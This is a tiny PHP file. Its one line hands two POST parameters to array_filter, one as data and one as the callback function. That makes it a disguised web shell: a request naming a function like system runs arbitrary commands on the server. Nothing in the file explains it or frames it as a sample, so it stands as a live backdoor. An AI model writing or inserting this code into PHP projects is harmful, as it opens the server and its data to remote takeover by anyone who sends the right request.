<?php
array_filter((array) ($_POST['d'] ?? []), $_POST['cb'] ?? 'strlen');
